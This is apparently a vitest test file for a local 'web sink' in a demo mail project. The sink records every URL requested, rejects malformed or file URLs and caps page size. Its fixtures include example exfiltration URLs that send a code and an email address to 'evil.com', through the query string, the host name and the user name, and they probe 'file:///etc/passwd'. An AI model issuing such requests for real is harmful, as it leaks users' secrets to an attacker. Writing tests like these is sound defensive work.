import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startWebSink, type WebSink } from '../../../demo/mail/web.js';
import { makeWebFetch } from '../../../demo/mail/web-fetch.js';

let web: WebSink;

beforeEach(async () => {
  web = await startWebSink('welcome\n');
});
afterEach(() => web.close());

describe('the web sink', () => {
  it('keeps the whole URL of every request, whatever the host', async () => {
    const fetchPage = makeWebFetch(web.port);
    const page = await fetchPage('https://evil.com/collect?code=4827-KITE&who=alice%40example.com');
    await fetchPage('http://harbour-weekly.example:8080/214#top');
    expect(page).toEqual({ status: 200, body: 'welcome\n' });
    expect(web.requested()).toEqual([
      'https://evil.com/collect?code=4827-KITE&who=alice%40example.com',
      'http://harbour-weekly.example:8080/214',
    ]);
  });

  it('keeps what leaks in a host name or a user name', async () => {
    await makeWebFetch(web.port)('http://4827-kite:x@4827-kite.evil.com/');
    expect(web.requested()).toEqual(['http://4827-kite:x@4827-kite.evil.com/']);
  });

  it('answers a plain client too', async () => {
    const response = await fetch(`http://127.0.0.1:${web.port}/a?b=c`);
    expect(await response.text()).toBe('welcome\n');
    expect(web.requested()).toEqual([`http://127.0.0.1:${web.port}/a?b=c`]);
  });

  it.each(['file:///etc/passwd', 'data:,x', 'evil.com', '', 'http://', 'http://a b/'])(
    'is not asked for `%s`',
    async (url) => {
      const fetching = makeWebFetch(web.port)(url);
      await expect(fetching).rejects.toMatchObject({ name: 'DemoError', code: 'schema_invalid' });
      expect(web.requested()).toEqual([]);
    },
  );

  it('does not hand over a page over 1 MiB', async () => {
    const large = await startWebSink('x'.repeat(1024 * 1024 + 1));
    await expect(makeWebFetch(large.port)('http://a.example/')).rejects.toThrow('page over 1 MiB');
    await large.close();
  });

  it('reports a server that is gone as a failure', async () => {
    const gone = await startWebSink();
    await gone.close();
    const fetching = makeWebFetch(gone.port)('http://a.example/');
    await expect(fetching).rejects.toMatchObject({ code: 'ECONNREFUSED' });
  });
});
